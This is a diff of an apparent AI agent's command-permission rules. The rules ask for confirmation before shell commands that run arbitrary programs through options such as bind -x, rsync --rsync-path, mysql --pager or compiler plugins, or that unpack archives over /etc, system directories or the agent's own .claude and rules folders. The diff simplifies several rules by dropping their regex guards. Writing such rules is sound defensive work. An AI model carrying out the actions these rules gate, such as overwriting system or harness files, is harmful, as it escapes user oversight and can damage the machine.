           ask when command runs ["awk", "gawk"] and command matches /inplace.*(?:\/etc|\/usr|\.tract|rules|\.claude)/ because "This changes files in place."
           ask when command runs tars operand matches /^x[a-zA-Z]{0,7}$/ and command matches /(?:-C|--dir\w*|--cd)[\s=]*["']?(?:\/(?:\s|$|["']|etc|usr|bin|lib|boot|root|var|sbin|\.)|(?:\.\/)?rules\b|\.claude)/ because "This unpacks over other files."
           ask when command runs tars with ["-x", "--extract", "--get"] and command matches /(?:-C|--dir\w*|--cd)[\s=]*["']?(?:\/(?:\s|$|["']|etc|usr|bin|lib|boot|root|var|sbin|\.)|(?:\.\/)?rules\b|\.claude)/ because "This unpacks over other files."
           ask when command runs tars and command matches /tar\s+-?\w*f\s*["']?\/(?:etc|usr|bin|lib|boot|root|dev\/[^n])/ because "This writes over the machine's files."
-          ask when command runs "bind" with "-x" and command matches /[^\w-]-[\w"'\\]*x|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs a command on a key."
-          ask when command runs "enable" with "-f" and command matches /[^\w-]-[\w"'\\]*f|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This loads code into the shell."
-          ask when command runs "hash" with "-p" and command matches /[^\w-]-[\w"'\\]*p|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes which program a name means."
-          ask when command runs ["complete", "compgen"] with "-C" and command matches /[^\w-]-[\w"'\\]*C|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs a command on completion."
-          ask when command runs "rsync" with "--rsync-path" and command matches /--["'\\]*rs|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of rsync runs a program."
+          ask when command runs "bind" with "-x" because "This runs a command on a key."
+          ask when command runs "enable" with "-f" because "This loads code into the shell."
+          ask when command runs "hash" with "-p" because "This changes which program a name means."
+          ask when command runs ["complete", "compgen"] with "-C" because "This runs a command on completion."
+          ask when command runs "rsync" with "--rsync-path" because "This option of rsync runs a program."
           ask when command runs "make" with ["--eval", "-E"] and command matches /[^\w-]-[\w"'\\]*E|--["'\\]*ev|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs recipes that are written on the command line."
-          ask when any c in command satisfies (c runs ["make", "gmake"] with ["-f", "--file", "--makefile"] and c executes matches /^(?:-|\/dev\/stdin|\/dev\/fd\/.*)$/) and command matches /-f|--fi|--mak/ because "This runs recipes from standard input."
+          ask when any c in command satisfies (c runs ["make", "gmake"] with ["-f", "--file", "--makefile"] and c executes matches /^(?:-|\/dev\/stdin|\/dev\/fd\/.*)$/) because "This runs recipes from standard input."
           ask when command runs ["make", "gmake"] operand matches /^(?:SHELL|MAKEFLAGS|\.SHELLFLAGS)\s*[:+?]?=.*[\s;|&]/ and command matches /SHELL|MAKEFLAGS/ because "This changes what make runs."
-          ask when command runs ["mysql", "mariadb"] with "--pager" and command matches /--["'\\]*pa|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of mysql runs a program."
-          ask when command runs ["find", "gfind"] with ["-ok", "-okdir"] and command matches /-ok|-okdir|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs a program for every file."
+          ask when command runs ["mysql", "mariadb"] with "--pager" because "This option of mysql runs a program."
+          ask when command runs ["find", "gfind"] with ["-ok", "-okdir"] because "This runs a program for every file."
           ask when command runs "go" with ["-exec", "-toolexec", "-vettool"] and command matches /-exec|-toolexec|-vettool|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of go runs a program."
           ask when command runs ["gcc", "g++", "cc", "clang", "c++", "clang++"] with ["-wrapper", "-fplugin"] and command matches /-fplugin|-wrapper|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of the compiler runs a program."
           ask when command runs "cargo" with "--config" and command matches /wrapper|runner|linker|rustc\b|credential/ because "This setting makes cargo run a program."
